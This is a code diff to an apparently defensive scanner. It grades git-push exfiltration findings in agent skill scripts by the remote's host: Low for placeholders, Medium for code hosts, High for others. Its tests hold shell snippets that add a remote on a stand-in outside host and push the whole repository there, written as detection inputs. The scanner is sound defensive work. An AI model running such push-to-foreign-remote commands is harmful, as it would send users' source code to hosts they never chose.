@@ -75,7 +75,7 @@ pub(super) fn git_rules(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &Cmd<'_>, flow:
                 ctx.report(
                     unit,
                     id::GitExfiltration,
-                    Severity::High,
+                    pushed_to(url),
                     span.clone(),
                     format!(
                         "pushes the repository to `{}`, a remote this skill added (`{remote}`)",
@@ -149,9 +149,47 @@ pub(super) fn git_rules(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &Cmd<'_>, flow:
     }
 }
 
+/// How severe a push to a remote the skill added is, by where the remote
+/// is: a URL for the reader to fill in (`git@github.com:{group}/{repo}.git`,
+/// `user/repo`) is a guide's step; a code host (`github.com`, an SSH alias
+/// of one) is where the user's project lives, most often, and a question;
+/// any other host is an alarm.
+fn pushed_to(url: &str) -> Severity {
+    let host = if url.contains("://") {
+        net::host(url).unwrap_or_default()
+    } else {
+        // `git@host:owner/repo.git`
+        url.split_once('@')
+            .map_or(url, |(_, r)| r)
+            .split(':')
+            .next()
+            .unwrap_or("")
+            .to_ascii_lowercase()
+    };
+    let code_host = net::is_code_host(&host)
+        || [
+            "github",
+            "gitlab",
+            "bitbucket",
+            "gitcode",
+            "gitee",
+            "codeberg",
+            "dev.azure.com",
+        ]
+        .iter()
+        .any(|h| host.contains(h));
+    if net::is_placeholder(url) || url.contains("user/repo") {
+        Severity::Low
+    } else if code_host {
+        Severity::Medium
+    } else {
+        Severity::High
+    }
+}
+
 #[cfg(test)]
 mod tests {
-    use crate::rule::id;
+    use crate::rule::{Severity, id};
     use crate::shell::tests::rules;
 
     #[test]
@@ -166,8 +204,39 @@ mod tests {
             "git remote add m https://git.example.org/x.git\ngit push -q --all m\n",
         );
         assert!(
-            found.iter().any(|(c, _)| *c == id::GitExfiltration.code),
+            found.contains(&(id::GitExfiltration.code, Severity::High)),
             "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_project_published_to_its_code_host() {
+        let push = |url: &str| {
+            rules(
+                "s.sh",
+                &format!("git remote add origin {url}\ngit push -u origin main\n"),
+            )
+            .into_iter()
+            .filter(|(c, _)| *c == id::GitExfiltration.code)
+            .map(|(_, s)| s)
+            .max()
+        };
+        assert_eq!(push("git@github.com:user/repo.git"), Some(Severity::Low));
+        assert_eq!(
+            push("git@gitlab.com:{group}/{product}.git"),
+            Some(Severity::Low)
+        );
+        assert_eq!(
+            push("git@github-work:acme/site.git"),
+            Some(Severity::Medium)
+        );
+        assert_eq!(
+            push("https://github.com/acme/knowledge-bundle.git"),
+            Some(Severity::Medium)
+        );
+        assert_eq!(
+            push("https://git.archive.example/in/$(basename $PWD).git"),
+            Some(Severity::High)
         );
     }
 }
